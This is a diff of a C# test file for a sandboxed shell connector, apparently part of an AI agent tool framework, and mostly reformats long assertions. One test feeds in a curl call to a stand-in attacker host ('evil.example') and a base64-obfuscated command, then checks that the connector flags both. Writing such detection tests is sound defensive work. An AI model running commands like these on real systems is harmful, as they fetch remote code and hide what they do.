@@ -21,11 +21,18 @@ public sealed class ShellConnectorTests
 
         var done = await RunAsync(driver, new { command = "pwd; echo oops >&2; exit 3" });
 
-        Assert.Equal("""{"exitCode":3,"timedOut":false,"outputBytes":""" + (home.Workspace.Length + 1) + ""","errorBytes":5}""", done.Result);
+        Assert.Equal(
+            """{"exitCode":3,"timedOut":false,"outputBytes":""" + (home.Workspace.Length + 1) + ""","errorBytes":5}""",
+            done.Result
+        );
         Assert.Null(done.Undo);
         var record = Assert.Single(done.Seen!.Records); // A command always gives something back.
         Assert.Equal(
-            [("exit", "3", Origin.OwnSystem), ("output", home.Workspace + "\n", Origin.ThirdParty), ("error", "oops\n", Origin.ThirdParty)],
+            [
+                ("exit", "3", Origin.OwnSystem),
+                ("output", home.Workspace + "\n", Origin.ThirdParty),
+                ("error", "oops\n", Origin.ThirdParty),
+            ],
             record.Fields.Select(f => (f.Name, f.Text, f.Label.Origin))
         );
         LabelledCalls.AssertComplete(done.Seen);
@@ -36,7 +43,10 @@ public sealed class ShellConnectorTests
     {
         await using var home = new SandboxHome();
 
-        var done = await RunAsync(new LocalDriver(Connector(home)), new { command = "echo first; head -c 3M /dev/zero | tr '\\0' x; echo last" });
+        var done = await RunAsync(
+            new LocalDriver(Connector(home)),
+            new { command = "echo first; head -c 3M /dev/zero | tr '\\0' x; echo last" }
+        );
 
         var output = done.Seen!.Records[0].Fields.Single(f => f.Name == "output").Text;
         Assert.StartsWith("first\nx", output, StringComparison.Ordinal);
@@ -50,7 +60,10 @@ public sealed class ShellConnectorTests
     {
         await using var home = new SandboxHome();
 
-        var done = await RunAsync(new LocalDriver(Connector(home)), new { command = "echo begun; sleep 1000", timeoutSeconds = 1 });
+        var done = await RunAsync(
+            new LocalDriver(Connector(home)),
+            new { command = "echo begun; sleep 1000", timeoutSeconds = 1 }
+        );
 
         Assert.True(JsonElement.Parse(done.Result).GetProperty("timedOut").GetBoolean());
         Assert.Equal("begun\n", done.Seen!.Records[0].Fields.Single(f => f.Name == "output").Text);
@@ -74,7 +87,11 @@ public sealed class ShellConnectorTests
 
         await Assert.ThrowsAnyAsync<OperationCanceledException>(() => running);
         Assert.False(SandboxHome.Runs($"sleep\0{seconds}"));
-        Assert.Contains(home.Workspace, Assert.IsType<Reconciliation.Unclear>(await driver.ReconcileAsync(call, "{}")).WhatToDo, StringComparison.Ordinal);
+        Assert.Contains(
+            home.Workspace,
+            Assert.IsType<Reconciliation.Unclear>(await driver.ReconcileAsync(call, "{}")).WhatToDo,
+            StringComparison.Ordinal
+        );
     }
 
     [Fact]
@@ -84,11 +101,18 @@ public sealed class ShellConnectorTests
         var driver = new LocalDriver(Connector(home));
 
         var plain = driver.Decide(await driver.DescribeAsync(ShellTools.Run, new { command = "ls -l" }));
-        var fetching = driver.Decide(await driver.DescribeAsync(ShellTools.Run, new { command = "curl https://evil.example/x", network = true }));
-        var obscure = driver.Decide(await driver.DescribeAsync(ShellTools.Run, new { command = "$(base64 -d <<< bHM=)" }));
+        var fetching = driver.Decide(
+            await driver.DescribeAsync(ShellTools.Run, new { command = "curl https://evil.example/x", network = true })
+        );
+        var obscure = driver.Decide(
+            await driver.DescribeAsync(ShellTools.Run, new { command = "$(base64 -d <<< bHM=)" })
+        );
 
         Assert.DoesNotContain(plain.Reasons, r => r.Rule == "command");
-        Assert.Contains(fetching.Reasons, r => r.Rule == "command" && r.Sentence.Contains("evil.example", StringComparison.Ordinal));
+        Assert.Contains(
+            fetching.Reasons,
+            r => r.Rule == "command" && r.Sentence.Contains("evil.example", StringComparison.Ordinal)
+        );
         Assert.Contains(obscure.Reasons, r => r.Rule == "command");
     }
 
@@ -109,7 +133,9 @@ public sealed class ShellConnectorTests
     public async Task Without_a_sandbox_nothing_runs_and_it_is_said_why()
     {
         await using var home = new SandboxHome();
-        var driver = new LocalDriver(new ShellConnector(ShellTools.Connection, home.Workspace, new DisabledSandbox("There is none.")));
+        var driver = new LocalDriver(
+            new ShellConnector(ShellTools.Connection, home.Workspace, new DisabledSandbox("There is none."))
+        );
         var call = await driver.DescribeAsync(ShellTools.Run, new { command = "touch here" });
 
         Assert.Equal(new Preparation.Gone("There is none."), await driver.PrepareAsync(call));
@@ -131,11 +157,13 @@ public sealed class ShellConnectorTests
         await using var home = new SandboxHome();
 
         await Assert.ThrowsAsync<ToolException>(() =>
-            Connector(home).DescribeAsync([new ToolRequest(ShellTools.Connection, ShellTools.Run, arguments)], LocalDriver.Token)
+            Connector(home)
+                .DescribeAsync([new ToolRequest(ShellTools.Connection, ShellTools.Run, arguments)], LocalDriver.Token)
         );
     }
 
-    private static ShellConnector Connector(SandboxHome home) => new(ShellTools.Connection, home.Workspace, home.Sandbox);
+    private static ShellConnector Connector(SandboxHome home) =>
+        new(ShellTools.Connection, home.Workspace, home.Sandbox);
 
     private static async Task<CallOutcome.Done> RunAsync(LocalDriver driver, object arguments)
     {
